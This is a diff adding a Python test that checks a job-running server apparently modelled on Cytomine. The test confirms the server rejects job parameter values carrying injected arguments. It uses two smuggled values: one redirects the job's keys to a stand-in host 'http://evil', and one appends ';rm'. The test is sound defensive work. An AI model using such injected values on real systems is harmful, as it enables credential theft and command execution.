@@ -60,6 +60,24 @@ def test_1_only_the_operator_says_what_runs(server, seeded, probe_descriptor):
     assert server.store.software.get(sid)["software_version"] == "2.0"
 
 
+def test_1_job_parameter_values_cannot_add_arguments(server, seeded, probe_descriptor):
+    # Cytomine splits the command line on spaces: a value "x --cytomine_host http://evil" posted over
+    # HTTP would reach the app as extra arguments (sending the job's keys to another host).
+    sid = server.register_app(probe_descriptor)["id"]
+    params = {p["name"]: p["id"] for p in server.store.software.list_parameters(sid)}
+    job = _admin(server, "POST", "/api/job.json", {"project": seeded.project_id, "software": sid}).json()["job"]
+    injected = {"job": job["id"], "softwareParameter": params["label"], "value": "x --cytomine_host http://evil"}
+    answer = _admin(server, "POST", "/api/jobparameter.json", injected)
+    assert answer.status_code == 400, answer.text
+    assert "space" in answer.json()["message"] and "label" in answer.json()["message"]
+    wrong_type = {"job": job["id"], "softwareParameter": params["threshold"], "value": "0.5;rm"}
+    assert _admin(server, "POST", "/api/jobparameter.json", wrong_type).status_code == 400
+    assert server.store.jobs.list_parameters(job["id"]) == []
+    # The same check when the parameters come with the job itself.
+    body = {"project": seeded.project_id, "software": sid, "params": [injected | {"job": None}]}
+    assert _admin(server, "POST", "/api/job.json", body).status_code == 400
+
+
 # ---------------------------------------------------------------------- 2. who sees what
 def test_2_non_members_get_403_and_see_nothing(server, seeded):
     store = server.store
